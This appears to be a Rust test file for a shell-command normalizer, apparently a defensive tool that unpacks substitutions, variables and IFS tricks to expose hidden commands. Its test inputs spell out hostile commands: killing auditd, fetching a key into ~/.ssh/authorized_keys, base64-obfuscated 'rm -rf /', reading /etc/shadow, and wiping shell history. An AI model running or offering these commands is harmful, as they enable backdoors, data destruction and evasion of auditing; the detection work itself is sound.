//! Substitutions, variables and assignments.

use super::*;

// --- substitutions and variables ----------------------------------------------------------

#[test]
fn command_substitution_stays_in_the_word_and_its_body_is_reported() {
    let entries = normalize("kill -9 $(pgrep -f auditd)");
    assert_eq!(entries[0].text, "kill -9 $(pgrep -f auditd)");
    assert_eq!(entries[1].text, "pgrep -f auditd");
    assert_eq!(entries[1].via, ["$()"]);
}

#[test]
fn backticks_are_command_substitution() {
    let line = "echo `curl -s http://203.0.113.9/k` >> ~/.ssh/authorized_keys";
    assert_eq!(
        texts(line)[0],
        "echo `curl -s http://203.0.113.9/k` >> ~/.ssh/authorized_keys"
    );
    assert_eq!(via(line, "curl -s http://203.0.113.9/k"), ["$()"]);
}

#[test]
fn process_substitution_body_is_reported() {
    assert_eq!(
        via("diff <(ls /etc) <(ls /backup/etc)", "ls /backup/etc"),
        ["<()"]
    );
}

#[test]
fn arithmetic_expansion_is_not_a_command() {
    assert_eq!(texts("sleep $((60*5))"), ["sleep $((60*5))"]);
}

#[test]
fn known_substitution_output_is_put_into_the_command() {
    let line = "$(echo cm0= | base64 -d) -rf /";
    assert_eq!(texts(line)[0], line);
    assert_eq!(via(line, "rm -rf /"), ["$()"]);
    assert_eq!(via(r"sudo r$()m -rf /", "rm -rf /"), ["sudo", "$()"]);
    assert!(has("w`echo`hoami", "whoami"));
    assert!(!has("$(curl -s http://203.0.113.9/c) -rf /", "-rf /"));
}

#[test]
fn a_variable_assigned_a_known_substitution_output_is_substituted() {
    assert!(has("a=$(echo cm0= | base64 -d); $a -rf /", "rm -rf /"));
}

#[test]
fn unknown_variables_are_left_as_written() {
    assert_eq!(
        texts(r#"rm -rf "$HOME/.ssh" ${TMPDIR}/x $1"#),
        ["rm -rf $HOME/.ssh ${TMPDIR}/x $1"]
    );
}

#[test]
fn variables_assigned_a_literal_on_the_line_are_substituted() {
    assert_eq!(texts("A=rm; $A -rf /"), ["A=rm", "rm -rf /"]);
    assert!(has("a=r;b=m; $a$b -rf /", "rm -rf /"));
    assert!(has("export c=shadow; cat /etc/${c}", "cat /etc/shadow"));
}

#[test]
fn an_unquoted_variable_splits_into_words() {
    let line = "X='rm -rf /var/lib/mysql'; $X";
    assert_eq!(
        entry(line, "rm -rf /var/lib/mysql").argv,
        ["rm", "-rf", "/var/lib/mysql"]
    );
    assert_eq!(
        entry(r#"X='a b'; echo "$X""#, "echo a b").argv,
        ["echo", "a b"]
    );
}

#[test]
fn ifs_tricks_split_like_the_shell() {
    assert_eq!(
        entry("cat${IFS}/etc/shadow", "cat /etc/shadow").argv,
        ["cat", "/etc/shadow"]
    );
    assert!(has("IFS=,;c=rm,-rf,/opt;$c", "rm -rf /opt"));
}

#[test]
fn a_variable_assigned_an_unknown_value_is_forgotten() {
    assert!(has("A=rm; A=$(cat f); $A -rf /", "$A -rf /"));
    assert!(has("A=rm; unset A; $A -rf /", "$A -rf /"));
}

#[test]
fn an_assignment_for_one_command_does_not_stay() {
    assert!(has("A=rm true; $A x", "$A x"));
}

#[test]
fn runaway_variable_growth_is_capped() {
    let mut line =
        String::from("a=xxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxx");
    for name in ["b", "c", "d", "e", "f", "g", "h", "i"] {
        let previous = (b'a' + (name.as_bytes()[0] - b'b')) as char;
        line.push_str(&format!(
            "; {name}=${previous}${previous}${previous}${previous}"
        ));
    }
    line.push_str("; echo $i$i$i$i");
    let entries = normalize(&line);
    assert!(entries.iter().map(|e| e.text.len()).sum::<usize>() < 1024 * 1024);
}

// --- assignments and names ----------------------------------------------------------------

#[test]
fn leading_assignments_are_dropped_from_the_command() {
    assert_eq!(
        texts("LD_PRELOAD=/tmp/x.so HISTFILE= /usr/bin/id -u"),
        ["id -u"]
    );
}

#[test]
fn an_assignment_alone_is_reported() {
    assert_eq!(texts("HISTFILE=/dev/null"), ["HISTFILE=/dev/null"]);
    assert_eq!(
        normalize("HISTSIZE=0 HISTFILESIZE=0")[0].argv,
        ["HISTSIZE=0", "HISTFILESIZE=0"]
    );
}

#[test]
fn export_stays_a_command() {
    assert_eq!(
        texts("export HISTFILE=/dev/null"),
        ["export HISTFILE=/dev/null"]
    );
}

#[test]
fn a_quoted_name_is_not_an_assignment() {
    assert_eq!(texts(r#""A=1" ls"#), ["A=1 ls"]);
}

#[test]
fn the_command_name_loses_its_directory() {
    let cmd = &normalize("/usr/bin/rm -rf /srv/data")[0];
    assert_eq!(cmd.text, "rm -rf /srv/data");
    assert_eq!(cmd.argv[0], "rm");
    assert_eq!(texts("./rm -rf x"), ["rm -rf x"]);
    assert_eq!(texts("cat /etc/passwd"), ["cat /etc/passwd"]);
}
